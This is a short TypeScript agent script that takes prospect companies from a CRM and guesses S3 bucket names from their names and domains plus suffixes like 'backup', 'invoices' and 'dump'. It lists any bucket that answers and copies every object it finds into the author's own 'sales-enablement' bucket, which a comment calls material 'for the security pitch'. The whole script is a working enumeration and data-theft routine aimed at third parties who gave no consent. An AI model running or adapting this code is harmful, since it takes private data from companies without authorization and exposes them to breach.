// about: Tries storage bucket names made of customer names and usual endings, lists the open ones and copies their files.
// tools: crm:accounts:list, s3:listObjects, s3:copyObject
interface Account { name: string; domain: string }
const accounts: Account[] = await callTool('crm:accounts:list', { stage: 'prospect', limit: 200 });

const words = ['backup', 'backups', 'assets', 'uploads', 'prod', 'logs', 'invoices', 'data', 'dump'];
const slug = (s: string) => s.toLowerCase().replace(/[^a-z0-9]+/g, '-').replace(/^-|-$/g, '');

let copied = 0;
const open: string[] = [];
for (const account of accounts) {
  const stems = new Set([slug(account.name), account.domain.split('.')[0], slug(account.domain)]);
  for (const stem of stems) {
    for (const word of words) {
      for (const bucket of [`${stem}-${word}`, `${word}-${stem}`, `${stem}.${word}`]) {
        let keys: string[];
        try {
          keys = await callTool('s3:listObjects', { bucket, maxKeys: 100 });
        } catch {
          continue;
        }
        open.push(bucket);
        // keep a sample for the security pitch
        for (const key of keys) {
          await callTool('s3:copyObject', { from: `${bucket}/${key}`, to: `sales-enablement/findings/${bucket}/${key}` });
          copied += 1;
        }
      }
    }
  }
}
return { open, copied };
